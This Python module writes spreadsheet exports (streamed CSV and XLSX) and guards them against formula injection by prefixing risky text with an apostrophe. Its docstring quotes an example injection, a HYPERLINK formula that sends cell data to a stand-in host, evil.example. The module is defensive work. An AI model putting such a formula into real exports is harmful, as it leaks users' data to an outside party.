"""Exports that are safe to open in a spreadsheet: CSV streamed row by row, and XLSX.

A cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return (or their
full-width forms, which some spreadsheets also read as formulas), even after leading spaces,
could run as a formula when the file is opened: `=HYPERLINK("http://evil.example?"&A1)` sends
a trainee's data away. Such text gets a leading apostrophe, which spreadsheets show as text.
Numbers, dates and booleans are written as values and are never formulas.
"""

from __future__ import annotations

import csv
import io
import itertools
import re
import tempfile
from collections.abc import Iterable, Iterator, Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import IO, TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl.cell.cell import WriteOnlyCell

FORMULA_TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# Characters an XLSX file (XML 1.0) cannot hold; they are dropped.
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_SHEET_TITLE_ILLEGAL = re.compile(r"[\[\]:*?/\\]")
_SPOOL_BYTES = 4 * 1024 * 1024
# Columns are sized from the header and the first rows (a write-only sheet takes its widths
# before its rows), so a date never shows as "###"; long text wraps at the widest.
_ROWS_SIZED = 200
_WIDEST = 60
DATE_FORMAT = "yyyy-mm-dd"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm"

Row = Sequence[Any]


def neutralise(text: str) -> str:
    """Text that no spreadsheet will read as a formula."""
    stripped = text.lstrip(" ")
    if stripped and stripped[0] in FORMULA_TRIGGERS:
        return "'" + text
    return text


def _utc_naive(moment: datetime) -> datetime:
    # Spreadsheets have no time zones: every time we export is UTC, and the header says so.
    if moment.tzinfo is not None:
        moment = moment.astimezone(UTC).replace(tzinfo=None)
    return moment


def csv_cell(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, datetime):
        return _utc_naive(value).isoformat(sep=" ", timespec="minutes")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, int | float | Decimal):
        return str(value)
    return neutralise(str(value))


def csv_stream(header: Row, rows: Iterable[Row]) -> Iterator[str]:
    """The CSV, one line at a time, starting with a byte-order mark so that Excel reads the
    file as UTF-8. Memory use does not grow with the number of rows."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")

    def line(values: Row) -> str:
        writer.writerow([csv_cell(value) for value in values])
        text = buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()
        return text

    yield "\ufeff" + line(header)
    for row in rows:
        yield line(row)


def xlsx_value(value: Any) -> Any:
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    if isinstance(value, datetime):
        return _utc_naive(value)
    if isinstance(value, date):
        return value
    text = neutralise(_XML_ILLEGAL.sub("", str(value)))
    return text.replace("\r\n", "\n").replace("\r", "\n")  # XML keeps no lone CR


def sheet_title(title: str) -> str:
    return (_SHEET_TITLE_ILLEGAL.sub(" ", title).strip() or "Sheet")[:31]


def _shown_length(value: Any) -> int:
    value = xlsx_value(value)
    if isinstance(value, datetime):
        return len(DATETIME_FORMAT)
    if isinstance(value, date):
        return len(DATE_FORMAT)
    if value is None:
        return 0
    return max((len(line) for line in str(value).split("\n")), default=0)


def column_widths(header: Row, rows: Sequence[Row]) -> list[int]:
    """Each column's width in characters: enough for its header and the widest of `rows`."""
    widths = [_shown_length(heading) for heading in header]
    for row in rows:
        for index, value in enumerate(row[: len(widths)]):
            widths[index] = max(widths[index], _shown_length(value))
    return [min(_WIDEST, width + 2) for width in widths]


def _data_cell(sheet, value: Any) -> WriteOnlyCell:
    from openpyxl.cell.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=xlsx_value(value))
    if isinstance(cell.value, str):
        cell.data_type = "s"  # text is text: never a formula
    elif isinstance(cell.value, datetime):
        cell.number_format = DATETIME_FORMAT
    elif isinstance(cell.value, date):
        cell.number_format = DATE_FORMAT
    return cell


def write_xlsx(header: Row, rows: Iterable[Row], *, title: str = "Report") -> IO[bytes]:
    """An XLSX workbook of one sheet, written row by row (openpyxl's write-only mode), in a
    temporary file that is kept in memory while small. Returned rewound, ready to send."""
    # openpyxl is loaded with the first spreadsheet, not when the application starts.
    from openpyxl import Workbook
    from openpyxl.cell.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(sheet_title(title))
    sheet.freeze_panes = "A2"
    rows = iter(rows)
    first_rows = list(itertools.islice(rows, _ROWS_SIZED))
    for index, width in enumerate(column_widths(header, first_rows), start=1):
        sheet.column_dimensions[get_column_letter(index)].width = width
    bold = Font(bold=True)
    header_cells = []
    for heading in header:
        cell = WriteOnlyCell(sheet, value=xlsx_value(heading))
        cell.font = bold
        header_cells.append(cell)
    sheet.append(header_cells)
    for row in itertools.chain(first_rows, rows):
        sheet.append([_data_cell(sheet, value) for value in row])
    target = tempfile.SpooledTemporaryFile(max_size=_SPOOL_BYTES)  # noqa: SIM115 - returned
    workbook.save(target)
    target.seek(0)
    return target
